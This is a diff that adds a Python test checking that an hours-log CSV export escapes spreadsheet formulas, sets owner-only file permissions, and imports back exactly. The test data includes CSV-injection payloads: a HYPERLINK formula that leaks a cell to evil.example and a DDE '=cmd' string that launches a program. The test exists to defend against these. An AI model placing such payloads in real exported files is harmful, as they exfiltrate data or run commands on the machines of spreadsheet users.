@@ -132,3 +132,25 @@ def test_whole_file_problems(service, trainees):
 ])
 def test_parse_date(text, expected):
     assert parse_date(text) == expected
+
+
+def test_export_escapes_formulas_is_private_and_imports_back_exactly(service, trainees, tmp_path):
+    ana = trainees.create("Ana", None)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
+               "'=already quoted", "plain note"]
+    for day, note in enumerate(hostile, start=1):
+        service.add_entry(ana.id, EntryData(dt.date(2026, 10, day), 1, "experience", None,
+                                            "=cmd|' /C calc'!A0", "@activity", None, note), today=TODAY)
+    path = tmp_path / "hours.csv"
+    assert export_csv(service, ana.id, path) == len(hostile)
+    assert path.stat().st_mode & 0o777 == 0o600
+    import csv as csv_module
+    cells = [cell for row in csv_module.reader(path.open(encoding="utf-8", newline="")) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # nothing a spreadsheet would run
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "''=already quoted" in cells
+
+    bo = trainees.create("Bo", None)
+    import_csv(service, bo.id, path, by="Bo", today=TODAY)
+    assert sorted(e.notes for e in service.list_entries(bo.id)) == sorted(hostile)
+    assert {(e.setting, e.activity) for e in service.list_entries(bo.id)} == {
+        ("=cmd|' /C calc'!A0", "@activity")}
